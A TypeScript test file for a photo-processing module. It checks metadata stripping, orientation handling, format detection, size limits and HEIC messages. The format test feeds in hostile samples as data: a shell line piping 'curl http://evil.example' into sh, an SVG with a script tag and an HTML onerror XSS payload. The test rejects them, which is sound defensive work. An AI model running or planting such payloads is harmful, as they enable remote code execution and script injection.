import exifReader from 'exif-reader';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { MAX_PHOTO_BYTES, processPhoto, RENDITION_SIZES } from '@/lib/photos/process';

// Real images made here with sharp (a camera's JPEG with GPS, device, owner and a rotation tag; PNG; WebP) and
// files that only pretend to be photos. What comes out must carry no metadata at all.

async function cameraJpeg(options: { width?: number; height?: number; orientation?: number; date?: string } = {}): Promise<Uint8Array> {
  const { width = 1200, height = 800, orientation = 1, date = '2026:11:02 10:15:00' } = options;
  // Left half red, right half blue, so the applied rotation can be seen in the pixels.
  const left = await sharp({ create: { width: width / 2, height, channels: 3, background: { r: 220, g: 40, b: 40 } } }).png().toBuffer();
  const buffer = await sharp({ create: { width, height, channels: 3, background: { r: 40, g: 40, b: 220 } } })
    .composite([{ input: left, left: 0, top: 0 }])
    .jpeg({ quality: 90 })
    // sharp sets the orientation tag itself (withMetadata), then merges the camera's other tags.
    .withMetadata({ orientation })
    .withExifMerge({
      IFD0: { Make: 'PhoneCo', Model: 'Pixel-ish 9', Artist: 'Jane Patient', Copyright: 'Jane Patient' },
      IFD2: { DateTimeOriginal: date },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 1234/100', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 3900/100' },
    })
    .toBuffer();
  return new Uint8Array(buffer);
}

describe('photo processing', () => {
  it('keeps no metadata: the camera’s GPS position, device and owner are gone from every rendition', async () => {
    const input = await cameraJpeg();
    const before = exifReader((await sharp(input).metadata()).exif as Buffer);
    expect(before.GPSInfo?.GPSLatitude).toBeDefined();
    expect(before.Image?.Artist).toBe('Jane Patient');
    const out = await processPhoto(input, new Date('2026-12-07T12:00:00Z'));
    if (!out.ok) throw new Error(out.error);
    expect(out.photo.renditions.map((r) => r.rendition)).toEqual(['thumb', 'screen']);
    for (const r of out.photo.renditions) {
      const meta = await sharp(r.bytes).metadata();
      expect(meta.format).toBe('jpeg');
      expect(meta.exif, r.rendition).toBeUndefined();
      expect(meta.xmp, r.rendition).toBeUndefined();
      expect(meta.iptc, r.rendition).toBeUndefined();
      expect(meta.icc, r.rendition).toBeUndefined();
      const text = Buffer.from(r.bytes).toString('latin1');
      for (const leak of ['Jane Patient', 'PhoneCo', 'Pixel-ish', 'GPS']) expect(text, `${r.rendition}: ${leak}`).not.toContain(leak);
      expect(Math.max(meta.width ?? 0, meta.height ?? 0)).toBeLessThanOrEqual(RENDITION_SIZES[r.rendition]);
    }
    // The camera's date is kept as the date taken, not in the file.
    expect(out.photo.exifDate).toBe('2026-11-02');
  });

  it('applies the EXIF orientation (a portrait photo stored sideways comes out upright)', async () => {
    const out = await processPhoto(await cameraJpeg({ width: 1200, height: 800, orientation: 6 }));
    if (!out.ok) throw new Error(out.error);
    expect([out.photo.width, out.photo.height]).toEqual([800, 1200]);
    const screen = out.photo.renditions[1]?.bytes ?? new Uint8Array();
    // Rotated 90° clockwise: the red left half is now on top.
    const { data } = await sharp(screen).extract({ left: 400, top: 100, width: 1, height: 1 }).raw().toBuffer({ resolveWithObject: true });
    expect(data[0]).toBeGreaterThan(150);
    expect(data[2]).toBeLessThan(100);
  });

  it('reads the format from the bytes: a script renamed .jpg, an SVG with script and plain text are refused', async () => {
    const script = new TextEncoder().encode('#!/bin/sh\ncurl http://evil.example | sh\n');
    const svg = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><script>alert(1)</script><rect width="200" height="200"/></svg>');
    const html = new TextEncoder().encode('<html><body><img src=x onerror=alert(1)></body></html>');
    for (const bytes of [script, svg, html]) {
      expect(await processPhoto(bytes)).toEqual({ ok: false, error: 'This file is not a photo Axis can read. Choose a JPEG, PNG or WebP photo.' });
    }
    const gif = new Uint8Array(await sharp({ create: { width: 100, height: 100, channels: 3, background: '#888' } }).gif().toBuffer());
    expect(await processPhoto(gif)).toMatchObject({ ok: false });
  });

  it('accepts PNG and WebP, refuses an empty, a tiny, an oversized or a truncated file with a clear message', async () => {
    const png = new Uint8Array(await sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } }).png().toBuffer());
    const webp = new Uint8Array(await sharp({ create: { width: 300, height: 200, channels: 3, background: '#c96' } }).webp().toBuffer());
    expect(await processPhoto(png)).toMatchObject({ ok: true, photo: { width: 300, height: 200, exifDate: null } });
    expect(await processPhoto(webp)).toMatchObject({ ok: true });
    expect(await processPhoto(new Uint8Array())).toEqual({ ok: false, error: 'The file is empty.' });
    const tiny = new Uint8Array(await sharp({ create: { width: 20, height: 20, channels: 3, background: '#000' } }).jpeg().toBuffer());
    expect(await processPhoto(tiny)).toMatchObject({ ok: false, error: expect.stringMatching(/too small/) });
    expect(await processPhoto(new Uint8Array(MAX_PHOTO_BYTES + 1))).toMatchObject({ ok: false, error: expect.stringMatching(/larger than 15 MB/) });
    const jpeg = await cameraJpeg();
    expect(await processPhoto(jpeg.slice(0, Math.floor(jpeg.length / 3)))).toMatchObject({ ok: false });
  });

  it('tells an iPhone user how to send a HEIC photo instead of calling it unreadable', async () => {
    // The start of a real HEIC file: an ISO-BMFF "ftyp" box with the "heic" brand.
    const heic = new Uint8Array([0, 0, 0, 24, ...new TextEncoder().encode('ftypheic'), 0, 0, 0, 0, ...new TextEncoder().encode('mif1heic'), ...new Uint8Array(64)]);
    expect(await processPhoto(heic)).toMatchObject({ ok: false, error: expect.stringMatching(/HEIC format.*Most Compatible/) });
  });

  it('ignores a camera date in the future or before digital photography', async () => {
    const future = await processPhoto(await cameraJpeg({ date: '2031:01:01 00:00:00' }), new Date('2026-12-07T12:00:00Z'));
    expect(future.ok && future.photo.exifDate).toBeNull();
    const ancient = await processPhoto(await cameraJpeg({ date: '1970:01:01 00:00:00' }));
    expect(ancient.ok && ancient.photo.exifDate).toBeNull();
  });
});
